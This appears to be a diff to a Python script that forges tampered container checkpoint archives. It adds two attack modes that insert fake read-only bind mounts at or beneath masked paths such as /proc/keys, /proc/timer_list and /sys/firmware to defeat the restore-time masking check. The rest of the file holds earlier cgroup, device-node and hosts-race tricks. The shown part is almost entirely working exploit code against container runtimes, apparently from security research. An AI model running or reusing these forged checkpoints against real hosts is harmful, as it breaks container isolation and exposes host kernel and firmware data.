@@ -34,6 +34,13 @@ MODE cgflip:  UNSIGNED (attack30h, after 7cf4480): the ORIGINAL external pids cg
               read-only floor still goes by the image's fstype; runc's source for that key is conmon's cgroup.
 MODE cgdevflip: as cgflip with the DEVICES hierarchy; /dev's tmpfs image gains a char node attack30h-dev (ARG
               "MAJ:MIN", default 1:11 = /dev/kmsg) that the container's devices cgroup denies and conmon's allows.
+MODE maskorder: UNSIGNED (attack30h): read-only binds of proc's /keys and /timer_list and sysfs's /firmware AT the masked
+              paths (allowed: "read-only at the path it shows"), each listed BEFORE the runtime's mask of that path
+              (/dev/null, tmpfs) but with a later mnt_id: mount_problems' masked check reads one mount per
+              mountpoint, the last listed (the mask); CRIU mounts the later mnt_id on top.
+MODE masksub: UNSIGNED (attack30h): a read-only bind of sysfs's /firmware/acpi at /sys/firmware/acpi, a CHILD of the
+              runtime's tmpfs mask at /sys/firmware (the mask's tmpfs image gains the directory ./acpi): the masked
+              check looks at /sys/firmware itself only; "part of sysfs, read-only, at the path it shows" holds.
 MODE racehosts: SIGNED; spec.dump gains a second /etc/hosts bind from ARG/overlay-containers/<ID>/userdata/hosts
               (ARG: a running container's MERGED/attack30h, where that container flips userdata between a real
               directory and a link to /etc: check-then-use).
@@ -52,7 +59,9 @@ cid = next(json.loads(d)["id"] for m, d in members if m.name == "config.dump")
 _mnt = next(d for m, d in members if m.name.startswith("checkpoint/mountpoints-"))
 devtar = "checkpoint/tmpfs-dev-%d.tar.gz.img" % next(
     e["root_dev"] & 0xfffff for e in pycriu.images.loads(_mnt)["entries"] if e["mountpoint"] == "/dev")
-UNSIGNED = mode in ("dslash", "ctrlink", "tmpfsbind", "procroot", "cgext", "cgdevext", "nosig", "cgflip", "cgdevflip")
+fwtar = "checkpoint/tmpfs-dev-%d.tar.gz.img" % next(
+    e["root_dev"] & 0xfffff for e in pycriu.images.loads(_mnt)["entries"] if e["mountpoint"] == "/sys/firmware")
+UNSIGNED = mode in ("dslash", "ctrlink", "tmpfsbind", "procroot", "cgext", "cgdevext", "nosig", "cgflip", "cgdevflip", "maskorder", "masksub")
 if mode == "dslash":
     source = f"/var/lib/containers/storage/overlay-containers//{cid}/userdata/attack30h-l/overlay-containers/{cid}/etc"
 elif mode == "ctrlink":
@@ -63,6 +72,21 @@ def mounts(data):
     doc = pycriu.images.loads(data)
     entries = doc["entries"]
     root = next(e for e in entries if e["mountpoint"] == "/")
+    if mode == "masksub":
+        sysfs = next(e for e in entries if e["mountpoint"] == "/sys")
+        mask = next(e for e in entries if e["mountpoint"] == "/sys/firmware")
+        entries.append(dict(sysfs, mnt_id=790, parent_mnt_id=mask["mnt_id"], root="/firmware/acpi",
+                            mountpoint="/sys/firmware/acpi", flags=0x200000 | 0xf))
+        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
+    if mode == "maskorder":
+        proc = next(e for e in entries if e["mountpoint"] == "/proc")
+        sysfs = next(e for e in entries if e["mountpoint"] == "/sys")
+        for n, (base, root, point) in enumerate(((proc, "/keys", "/proc/keys"), (proc, "/timer_list", "/proc/timer_list"),
+                                                 (sysfs, "/firmware", "/sys/firmware"))):
+            mask = next(i for i, e in enumerate(entries) if e["mountpoint"] == point)
+            entries.insert(mask, dict(base, mnt_id=780 + n, parent_mnt_id=base["mnt_id"], root=root, mountpoint=point,
+                                      flags=0x200000 | 0xf))  # read-only, nosuid, nodev, noexec
+        buf = io.BytesIO(); pycriu.images.dump(doc, buf); return buf.getvalue()
     if mode in ("cgflip", "cgdevflip"):
         cg = next(e for e in entries if e["mountpoint"] == "/sys/fs/cgroup/" + ("pids" if mode == "cgflip" else "devices"))
         cg.update(fstype=5, flags=0x200000, sb_flags=0)  # "a tmpfs", read-write; ext_key and mountpoint as runc made them
@@ -98,6 +122,8 @@ def dev_tar(data):
             t.addfile(m, io.BytesIO(d) if d is not None else None)
         if mode == "tmpfsbind":
             t.addfile(info("./attack30h-l", tarfile.SYMTYPE, "/"))
+        elif mode == "masksub":
+            t.addfile(info("./acpi", tarfile.DIRTYPE))
         elif mode == "cgdevflip":
             node = info("./attack30h-dev", tarfile.CHRTYPE); node.mode = 0o600
             node.devmajor, node.devminor = (int(x) for x in (arg or "1:11").split(":"))
@@ -142,7 +168,9 @@ with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as 
             continue
         if UNSIGNED and mode != "nosig" and m.name.startswith("checkpoint/mountpoints-"):
             d = mounts(d)
-        if mode in ("tmpfsbind", "cgdevext", "cgdevflip") and m.name == devtar:
+        if mode == "masksub" and m.name == fwtar:
+            d = dev_tar(d)
+        elif mode in ("tmpfsbind", "cgdevext", "cgdevflip") and m.name == devtar:
             d = dev_tar(d)
         if UNSIGNED and m.name == "checkpoint/cgroup.img":
             d = freezer_perms(d)
